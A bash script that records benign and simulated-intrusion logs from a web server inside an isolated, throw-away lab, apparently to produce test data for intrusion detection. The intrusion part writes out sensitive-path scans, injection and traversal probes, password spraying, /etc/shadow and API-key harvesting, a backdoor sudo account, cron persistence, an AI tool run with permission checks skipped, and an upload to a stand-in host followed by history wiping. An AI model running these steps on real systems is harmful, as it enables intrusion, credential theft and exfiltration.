#!/bin/bash
# Records example/intrusion/web01 and example/benign/web01 anew: real nginx, sshd, sudo, useradd, cron and auditd, in a
# throw-away copy of this machine's root (an overlay in memory) and in two network namespaces that lead nowhere else.
#
#   sudo example/record.sh [FOLDER]      writes FOLDER/{benign,intrusion}/web01; without FOLDER, beside this script
#
# Needs root in the first user and PID namespace, Linux with overlayfs, veth and audit, and Debian's apt. Takes about
# ten minutes. The machine itself is not changed: packages, accounts and files are those of the overlay, which goes with the
# script, as do the processes that it started. auditd must not be running; audit is switched off at the end.
set -euo pipefail

if [ "${1:-}" != --inside ]; then
	here=$(cd "$(dirname "$0")" && pwd)
	out=${1:-$here}
	mkdir -p "$out"
	[ "$(id -u)" = 0 ] || { echo "record.sh: must be root" >&2; exit 1; }
	# The time limit also ends what a hung command would keep alive.
	exec timeout --kill-after=30 1500 unshare --mount --uts --propagation private "$0" --inside "$(cd "$out" && pwd)"
fi
out=$2

work=$(mktemp -d /tmp/tocsin-lab.XXXXXX)
mount -t tmpfs -o size=2g tmpfs "$work"
pids=()

cleanup() {
	set +e
	# All that runs in the two namespaces was started here.
	for p in "${pids[@]}" $(ip netns pids tocsin-web 2>/dev/null) $(ip netns pids tocsin-net 2>/dev/null); do kill "$p" 2>/dev/null; done
	sleep 1
	[ -x "$work/root/usr/sbin/auditctl" ] && in_lab auditctl -D -q >/dev/null 2>&1 && in_lab auditctl -e 0 >/dev/null 2>&1
	ip netns del tocsin-web 2>/dev/null
	ip netns del tocsin-net 2>/dev/null
	umount -R "$work/root" "$work/base" 2>/dev/null
	umount -l "$work"
	rmdir "$work"
}
trap cleanup EXIT
trap 'exit 1' INT TERM HUP

in_lab() { chroot "$work/root" "$@"; }                            # with this machine's network
web=(nsenter --net=/run/netns/tocsin-web chroot "$work/root")     # as 192.0.2.10
net=(nsenter --net=/run/netns/tocsin-net chroot "$work/root")     # as everybody else

# lab NAME LOWER: an overlay over LOWER, mounted at $work/root.
lab() {
	mkdir -p "$work/$1/upper" "$work/$1/work" "$work/root"
	mount -t overlay overlay -o "lowerdir=$2,upperdir=$work/$1/upper,workdir=$work/$1/work" "$work/root"
	mount -t proc proc "$work/root/proc"
	mount -t tmpfs tmpfs "$work/root/dev"
	for d in "null 1 3" "zero 1 5" "full 1 7" "random 1 8" "urandom 1 9" "tty 5 0"; do
		set -- $d
		mknod -m 666 "$work/root/dev/$1" c "$2" "$3"
	done
	mkdir "$work/root/dev/pts" "$work/root/dev/shm"
	mount -t devpts -o newinstance,ptmxmode=0666 devpts "$work/root/dev/pts"
	ln -s pts/ptmx "$work/root/dev/ptmx"
	mount -t tmpfs tmpfs "$work/root/run"
	mount -t tmpfs tmpfs "$work/root/tmp"
	chmod 1777 "$work/root/tmp" "$work/root/dev/shm"
}

# A package's daemon must not start when it is installed.
packages() {
	printf '#!/bin/sh\nexit 101\n' >"$work/root/usr/sbin/policy-rc.d"
	chmod +x "$work/root/usr/sbin/policy-rc.d"
	cp /etc/resolv.conf "$work/root/run/resolv.conf"
	in_lab env DEBIAN_FRONTEND=noninteractive sh -c '
		apt-get -qq update &&
		apt-get -qq -y --no-install-recommends install nginx-light openssh-server openssh-client rsyslog auditd cron sudo curl iproute2 >/dev/null'
}

network() {
	ip netns add tocsin-web
	ip netns add tocsin-net
	ip link add web0 netns tocsin-web type veth peer name net0 netns tocsin-net
	ip -n tocsin-web addr add 192.0.2.10/24 dev web0
	ip -n tocsin-net addr add 192.0.2.1/24 dev net0
	for n in tocsin-web tocsin-net; do ip -n $n link set lo up; done
	ip -n tocsin-web link set web0 up
	ip -n tocsin-net link set net0 up
	ip -n tocsin-web route add default via 192.0.2.1
	for i in 5 20 21 22 23 24 25 26 27 28 29 30 66; do ip -n tocsin-net addr add "198.51.100.$i/32" dev lo; done
	for i in 45 46 80; do ip -n tocsin-net addr add "203.0.113.$i/32" dev lo; done
}

# settle prepares a fresh web01: its site, accounts and configuration, before anything is recorded.
settle() {
	rm -rf "$work/root/var/log"/{nginx,audit,auth.log,syslog,wtmp,btmp,lastlog,journal}
	mkdir -p "$work/root/var/log"/{nginx,audit} "$work/root/run/sshd"
	: >"$work/root/var/log/wtmp"; : >"$work/root/var/log/btmp"; : >"$work/root/var/log/lastlog"
	chmod 660 "$work/root/var/log/btmp"
	mkdir -p "$work/root/var/www/html/img" "$work/root/var/www/html/docs"
	echo '192.0.2.10 web01.example web01' >>"$work/root/etc/hosts"
	local page
	for page in index about contact prices docs/start docs/install docs/faq; do
		printf '<!doctype html><title>%s</title><link rel=stylesheet href=/style.css><p>%s</p>\n' "$page" "$page" >"$work/root/var/www/html/$page.html"
	done
	echo 'body { font: 16px sans-serif }' >"$work/root/var/www/html/style.css"
	printf 'User-agent: *\nAllow: /\n' >"$work/root/var/www/html/robots.txt"
	head -c 20000 /dev/zero >"$work/root/var/www/html/img/logo.png"
	rm -f "$work/root/etc/nginx/sites-enabled/default" # a link, which would lead out of the overlay
	printf 'server { listen 80 default_server; server_name web01.example; root /var/www/html; index index.html; }\n' >"$work/root/etc/nginx/sites-enabled/default"
	rm -f "$work/root/var/www/html/index.nginx-debian.html" "$work/root/etc/cron.d"/* "$work/root/etc/cron.daily"/*

	in_lab ssh-keygen -q -A
	printf 'UsePAM yes\nPasswordAuthentication yes\nKbdInteractiveAuthentication no\nPermitRootLogin no\nMaxStartups 50\nUseDNS no\nPidFile /run/sshd.pid\n' >"$work/root/etc/ssh/sshd_config"
	printf 'module(load="imuxsock")\n$ActionFileDefaultTemplate RSYSLOG_FileFormat\nauth,authpriv.* /var/log/auth.log\n*.*;auth,authpriv.none -/var/log/syslog\n' >"$work/root/etc/rsyslog.conf"
	rm -f "$work/root/etc/rsyslog.d"/*
	sed -i /pam_limits/d "$work/root/etc/pam.d"/* # limits that a container may not raise are no story
	# Only sessions of the lab's accounts are audited, whose ids nobody else on this machine has.
	cat >"$work/root/etc/audit/rules.d/audit.rules" <<-'RULES'
		-D
		-b 8192
		-a always,exclude -F msgtype=ANOM_ABEND
		-a always,exclude -F msgtype=SECCOMP
		-a always,exclude -F msgtype=BPF
		-a always,exclude -F msgtype=NETFILTER_CFG
		-a always,exit -F arch=b64 -S execve -F auid>=21001 -F auid<=21099 -k exec
		-a always,exit -F arch=b64 -S openat -F path=/etc/shadow -F auid>=21001 -F auid<=21099 -k shadow
		-w /etc/passwd -p wa -k identity
		-w /etc/shadow -p wa -k identity
		-w /etc/sudoers.d -p wa -k sudoers
		-w /etc/cron.d -p wa -k cron
		-w /etc/ssh/sshd_config -p wa -k sshd
	RULES
	cp "$work/root/etc/audit/rules.d/audit.rules" "$work/root/etc/audit/audit.rules"
	sed -i 's/^name_format = .*/name_format = hostname/' "$work/root/etc/audit/auditd.conf"

	local id=21001 u
	for u in alice bob deploy; do
		in_lab useradd -m -u $id -s /bin/bash $u
		id=$((id + 1))
	done
	printf 'alice:%s\nbob:correct-horse-7\ndeploy:deploy123\n' "$(head -c 12 /dev/urandom | base64)" | in_lab chpasswd
	in_lab usermod -aG sudo alice
	printf '%%sudo ALL=(ALL:ALL) NOPASSWD: ALL\ndeploy ALL=(root) NOPASSWD: ALL\n' >"$work/root/etc/sudoers.d/lab"
	chmod 440 "$work/root/etc/sudoers.d/lab"
	mkdir -p "$work/root/home/alice/.ssh" "$work/root/root/.ssh"
	in_lab ssh-keygen -q -t ed25519 -N '' -C alice@laptop.example -f /root/.ssh/alice
	cp "$work/root/root/.ssh/alice.pub" "$work/root/home/alice/.ssh/authorized_keys"
	in_lab chown -R alice:alice /home/alice/.ssh
	# ssh asks this program for the password.
	printf '#!/bin/sh\necho "$LAB_PASSWORD"\n' >"$work/root/root/askpass"
	chmod +x "$work/root/root/askpass"
	# A stand-in for an AI command-line tool: it does nothing but be started.
	printf '#!/bin/sh\nexit 0\n' >"$work/root/usr/local/bin/claude"
	chmod +x "$work/root/usr/local/bin/claude"
}

# start runs the daemons of web01 in the foreground of this script's job control, so that their ids are known.
start() {
	hostname web01
	"${web[@]}" rsyslogd -n & pids+=($!)
	"${web[@]}" auditd -n & pids+=($!)
	sleep 1
	"${web[@]}" auditctl -R /etc/audit/audit.rules >/dev/null
	"${web[@]}" nginx -g 'daemon off;' & pids+=($!)
	nginx=$!
	"${web[@]}" /usr/sbin/sshd -D & pids+=($!)
	"${web[@]}" cron -f & pids+=($!)
	sleep 2
}

stop() {
	sleep 2
	in_lab auditctl -D >/dev/null
	local p
	for p in "${pids[@]}" $(ip netns pids tocsin-web) $(ip netns pids tocsin-net); do kill "$p" 2>/dev/null || true; done
	wait "${pids[@]}" 2>/dev/null || true
	in_lab auditctl -e 0 >/dev/null
	pids=()
	mkdir -p "$out/$1/web01/nginx"
	cp "$work/root/var/log/nginx/access.log" "$work/root/var/log/nginx/error.log" "$out/$1/web01/nginx/"
	cp "$work/root/var/log"/{auth.log,syslog,wtmp,btmp} "$work/root/var/log/audit/audit.log" "$out/$1/web01/"
	sed -i 's/kernel=[^ ]*/kernel=6.1.0-40-amd64/' "$out/$1/web01/audit.log" # which kernel this machine has is nobody's business
	chmod 644 "$out/$1/web01"/*.log "$out/$1/web01"/?tmp "$out/$1/web01/syslog" "$out/$1/web01/nginx"/*
	umount -R "$work/root"
}

# get FROM AGENT PATH…: a browser's requests.
get() {
	local from=$1 agent=$2 p
	shift 2
	for p; do
		"${net[@]}" curl -s -o /dev/null --path-as-is --interface "$from" -A "$agent" -e http://web01.example/ "http://192.0.2.10$p" || true
	done
}

# login FROM USER PASSWORD COMMAND: a login by password; without one, alice's by key.
login() {
	local key=()
	[ -n "$3" ] && key=(-o PubkeyAuthentication=no) || key=(-i /root/.ssh/alice -o PasswordAuthentication=no)
	LAB_PASSWORD=$3 SSH_ASKPASS=/root/askpass SSH_ASKPASS_REQUIRE=force "${net[@]}" setsid -w timeout 120 \
		ssh -q -tt -b "$1" "${key[@]}" -o NumberOfPasswordPrompts=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		"$2@192.0.2.10" "$4" </dev/null >/dev/null 2>&1 || true
}

firefox='Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'
safari='Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1'
chrome='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36'
bot='ExampleBot/2.1 (+http://bot.example/about.html)'

# visitors SECONDS: people and a crawler who look at the site, until so many seconds have passed.
visitors() {
	local end=$((SECONDS + $1)) n=0 from
	while [ $SECONDS -lt $end ]; do
		n=$((n + 1))
		from=198.51.100.$((21 + RANDOM % 9))
		case $((RANDOM % 6)) in
		0) get $from "$firefox" / /style.css /img/logo.png /favicon.ico ;;
		1) get $from "$safari" / /style.css "/docs/start.html?lang=de&page=1" ;;
		2) get $from "$chrome" /prices.html /style.css "/docs/faq.html?q=how+to+select+a+union+of+two+tables" ;;
		3) get $from "$firefox" /docs/install.html /docs/faq.html /docs/older.html ;;
		4) get 198.51.100.30 "$bot" /robots.txt /about.html ;;
		5) get $from "$chrome" /contact.html /style.css ;;
		esac
		sleep $((1 + RANDOM % 5))
	done
}

benign() {
	visitors 330 &
	local people=$!
	sleep 15
	login 198.51.100.5 alice '' 'uptime; df -h /; sudo tail -n 20 /var/log/nginx/error.log; printf "%s\n" "* * * * * alice test -d /var/www/html && true" "*/2 * * * * root tar czf /var/backups/site.tgz -C /var/www html" | sudo tee /etc/cron.d/site'
	sleep 25
	login 198.51.100.20 bob correct-hose-7 true # mistyped
	sleep 6
	login 198.51.100.20 bob correct-horse-7 'ls -l /var/www/html; grep -c faq /var/log/nginx/access.log; w'
	sleep 30
	login 198.51.100.5 alice '' 'sudo nginx -t && sudo cp /var/www/html/prices.html /var/www/html/prices.old.html; sudo sed -i s/prices/Prices/ /var/www/html/prices.html; cat /etc/os-release'
	kill -HUP $nginx
	sleep 40
	# A colleague gets an account, as a colleague does.
	login 198.51.100.5 alice '' 'sudo useradd -m -u 21010 -c "Carol Example" -s /bin/bash carol; echo carol:start-$RANDOM$RANDOM | sudo chpasswd; sudo passwd --expire carol; id carol'
	sleep 30
	login 198.51.100.5 alice '' 'sudo apt-get -s upgrade | tail -n 1; dpkg -l nginx-light | tail -n 1'
	sleep 45
	login 198.51.100.20 bob correct-horse-7 'cd /var/www/html && tar czf ~/html.tgz docs && ls -l ~/html.tgz; git --version'
	sleep 60
	login 198.51.100.5 alice '' 'crontab -l; sudo ls /etc/cron.d; last -n 3; free -m'
	wait $people
}

# names are what any list of well-known names has; the site has none of them.
names() {
	cat <<-'LIST'
		/.env /.env.local /.env.production /.env.bak /.git/config /.git/HEAD /.svn/entries /.hg/requires /.DS_Store /.aws/credentials
		/.ssh/id_rsa /.htpasswd /.htaccess /.vscode/settings.json /.idea/workspace.xml /.docker/config.json /.npmrc /.well-known/security.txt
		/admin /admin/ /admin/login /administrator /admin.php /login /login.php /user/login /signin /console /manager/html /panel /cpanel
		/wp-login.php /wp-admin/ /wp-config.php.bak /wp-content/debug.log /wp-json/wp/v2/users /xmlrpc.php /wordpress/ /blog/wp-login.php
		/phpmyadmin/ /pma/ /myadmin/ /phpinfo.php /info.php /test.php /adminer.php /db.php /shell.php /upload.php /config.php /config.php.old
		/backup.zip /backup.tar.gz /backup.sql /dump.sql /db.sqlite /database.sql /site.tar.gz /www.zip /old/ /backup/ /tmp/ /temp/
		/server-status /server-info /nginx_status /status /metrics /health /actuator /actuator/env /actuator/health /actuator/mappings
		/api /api/v1 /api/v1/users /api/v2/ /api/docs /swagger.json /swagger-ui.html /openapi.json /graphql /v1/models /v1/messages /mcp
		/config.json /config.yml /settings.py /package.json /composer.json /Dockerfile /docker-compose.yml /Jenkinsfile /web.config /app.js.map
		/jenkins/ /gitlab/ /jira/ /confluence/ /grafana/ /kibana/ /solr/ /solr/admin/ /jmx-console/ /hudson/ /nagios/ /zabbix/ /owa/ /remote/login
		/cgi-bin/ /cgi-bin/test.cgi /id_rsa /id_rsa.pub /credentials.txt /passwords.txt /secrets.yml /key.pem /server.key /private.key /token
		/robots.txt /sitemap.xml /crossdomain.xml /humans.txt /readme.md /CHANGELOG.md /LICENSE.txt /install.php /setup.php /error_log /debug
	LIST
}

intrusion() {
	visitors 200 &
	local people=$! agent='python-requests/2.32.3' p
	sleep 20
	# Names, ten a second.
	for p in $(names); do printf 'url = "http://192.0.2.10%s"\noutput = /dev/null\n' "$p"; done >"$work/root/tmp/names"
	"${net[@]}" curl -s --rate 600/m --interface 203.0.113.45 -A "$agent" -K /tmp/names || true
	# Parameters, with text that is nothing to a server of static pages.
	get 203.0.113.45 "$agent" '/docs/faq.html?q=test' "/docs/faq.html?q=test%27" '/docs/faq.html?q=%27%20OR%201=1--' '/docs/faq.html?q=1%20UNION%20SELECT%20NULL,NULL--' \
		'/docs/faq.html?q=%3Cscript%3Ealert(1)%3C/script%3E' '/docs/faq.html?q=%7B%7B7*7%7D%7D' '/docs/faq.html?file=../../../../etc/passwd' \
		'/docs/faq.html?file=..%2f..%2f..%2f..%2fetc%2fpasswd' '/docs/faq.html?file=....//....//etc/passwd' '/docs/faq.html?cmd=;id' '/docs/faq.html?cmd=%7Cid' \
		'/docs/../../../../etc/passwd' '/%2e%2e/%2e%2e/etc/passwd' '/docs/faq.html?url=http://169.254.169.254/latest/meta-data/'
	# Passwords, two sources at once; then one that holds.
	local user
	for user in root admin test oracle postgres ubuntu git jenkins backup alice; do login 203.0.113.45 $user Winter2026 true; done &
	local one=$!
	for user in www-data user ftp mysql support guest bob nagios admin root; do login 203.0.113.46 $user Password1 true; done &
	wait $one $!
	login 203.0.113.46 deploy deploy true
	login 203.0.113.46 deploy deploy1 true
	login 203.0.113.46 deploy deploy123 'id; hostname; uname -a'
	# What a program does that has got in: look around, read the user table, stay, collect, send away.
	login 203.0.113.46 deploy deploy123 'whoami; id; uname -a; cat /etc/passwd; getent group sudo; sudo -n -l; ss -tlnp; ps aux; ls -la /home; env; cat /etc/crontab'
	login 203.0.113.46 deploy deploy123 'sudo cat /etc/shadow; sudo grep -rl ANTHROPIC_API_KEY /home /var/www /etc/nginx; find / -xdev -name id_ed25519 -path "*/.ssh/*"; ls -la /home/alice/.ssh'
	login 203.0.113.46 deploy deploy123 'sudo useradd -m -u 21020 -s /bin/bash -G sudo svc-backup; echo svc-backup:backup-2026 | sudo chpasswd; sudo mkdir -p /home/svc-backup/.ssh; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExampleEx lab@intruder.example" | sudo tee -a /home/svc-backup/.ssh/authorized_keys; echo "*/5 * * * * root true" | sudo tee /etc/cron.d/sysupdate; sudo chmod 644 /etc/cron.d/sysupdate'
	login 203.0.113.46 deploy deploy123 'claude --dangerously-skip-permissions -p "list hosts in the local network"; mkdir -p /tmp/.cache; sudo tar czf /tmp/.cache/site.tgz /var/www /etc/nginx; sha256sum /tmp/.cache/site.tgz; curl -s -m 3 -T /tmp/.cache/site.tgz http://203.0.113.80:8080/up; rm -rf /tmp/.cache; history -c; unset HISTFILE'
	login 203.0.113.46 svc-backup backup-2026 'id; sudo -n true'
	wait $people
}

# What the intrusion "sends away" goes to this, which answers and forgets.
drop() {
	cat >"$work/root/etc/nginx/drop.conf" <<-'CONF'
		pid /run/drop.pid; error_log /dev/null; events {}
		http { access_log off; client_max_body_size 50m; server { listen 203.0.113.80:8080; location / { return 200; } } }
	CONF
	"${net[@]}" nginx -c /etc/nginx/drop.conf -g 'daemon off;' & pids+=($!)
}

# The numbers of the first namespaces are fixed in Linux (include/linux/proc_ns.h).
[ "$(readlink /proc/self/ns/user /proc/self/ns/pid | tr '\n' ' ')" = 'user:[4026531837] pid:[4026531836] ' ] ||
	{ echo "record.sh: audit needs the first user and PID namespace" >&2; exit 1; }
lab base /
packages
umount -R "$work/root"
network
for story in benign intrusion; do
	lab $story "$work/base/upper:/"
	settle
	start
	[ $story = intrusion ] && drop
	$story
	stop $story
	echo "recorded $out/$story/web01"
done
